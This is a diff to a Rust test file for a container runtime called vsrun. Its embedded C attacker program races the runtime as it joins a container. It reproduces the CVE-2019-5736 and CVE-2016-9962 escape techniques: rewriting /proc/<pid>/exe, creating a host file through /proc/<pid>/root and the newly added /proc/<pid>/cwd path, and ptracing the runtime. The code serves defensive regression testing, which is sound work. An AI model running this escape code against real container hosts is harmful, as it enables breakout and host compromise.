@@ -35,8 +35,9 @@ fn race_lock() -> std::sync::MutexGuard<'static, ()> {
 
 /// Spins over /proc looking for the runtime while it joins the container. For every pid it
 /// tries what CVE-2019-5736 and CVE-2016-9962 did: open /proc/<pid>/exe (and, once the runtime
-/// has exited, reopen it for writing through /proc/self/fd), open /proc/<pid>/root and create a
-/// file on the host through it, and PTRACE_SEIZE the runtime. Prints its counters as JSON.
+/// has exited, reopen it for writing through /proc/self/fd), open /proc/<pid>/root (and cwd)
+/// and create a file on the host through it, and PTRACE_SEIZE the runtime. Prints its counters
+/// as JSON.
 /// argv: MS TARGET_DEV TARGET_INO CANARY (the host file it tries to create).
 const ATTACKER: &str = r#"
 #define _GNU_SOURCE
@@ -160,6 +161,17 @@ int main(int argc, char **argv) {
                 close(r);
             } else if (errno == EACCES || errno == EPERM) {
                 root_denied++;
+            }
+            /* A cwd left on the host's / reaches it as well. */
+            snprintf(p, sizeof p, "/proc/%d/cwd", pid);
+            int cw = open(p, O_PATH | O_DIRECTORY | O_CLOEXEC);
+            if (cw >= 0) {
+                int c = openat(cw, canary, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
+                if (c >= 0) {
+                    if (write(c, "escaped\n", 8) == 8) escaped++;
+                    close(c);
+                }
+                close(cw);
             }
             if (t == 1 || t == -1) {
                 if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
@@ -712,9 +724,14 @@ fn runtime_binary_stays_intact_during_create_in_a_shared_pid_namespace_even_with
 /// can ptrace any process in its pid namespace, and CAP_SYS_PTRACE overrides non-dumpable. So
 /// vsrun never lets a privileged process into a pid namespace it joins: the init does the
 /// privileged steps outside it and only a child holding the final credentials, already rooted
-/// in the container, enters (context/init.rs, `hand_over`). The attacker may ptrace that child,
-/// as it may any process of its own; it must never find one holding more than it does, nor a
-/// root on the host. runc 1.1.5 is reached here (its nsexec child joins before it drops).
+/// in the container, enters (context/init.rs, `hand_over`); a create's /proc comes from an
+/// opener that enters holding no capability in any set, rooted in an empty read-only tmpfs
+/// (context/pidns_proc.rs), on every kernel. The attacker may ptrace both, as it may any
+/// process of its own; it must never find one holding a capability it lacks (CapPrm, in any
+/// user namespace), nor a root or cwd on the host. runc 1.1.5 is reached here (its nsexec child
+/// joins before it drops), and so was vsrun on kernels before 6.15 until issue 12: on Debian
+/// 12's 6.1 (hack/v2-vm.sh) the attacker ptraced 45 privileged runtime processes and wrote the
+/// canary on the host 32 times in 5 creates.
 #[track_caller]
 fn assert_only_final_credentials_were_visible(r: &RaceResult, what: &str) {
     assert_race_ran(r, what);
